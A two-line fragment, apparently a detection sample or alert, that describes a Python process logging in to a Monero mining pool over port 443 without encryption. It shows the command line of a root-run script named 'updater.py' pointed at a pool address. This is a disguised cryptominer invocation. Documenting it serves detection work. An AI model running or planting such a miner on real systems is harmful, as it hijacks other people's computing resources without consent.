# A Python program logs in to a pool on port 443 without encryption, with the login of Monero miners.
/usr/bin/python3 /root/updater.py monero 203.0.113.20 443
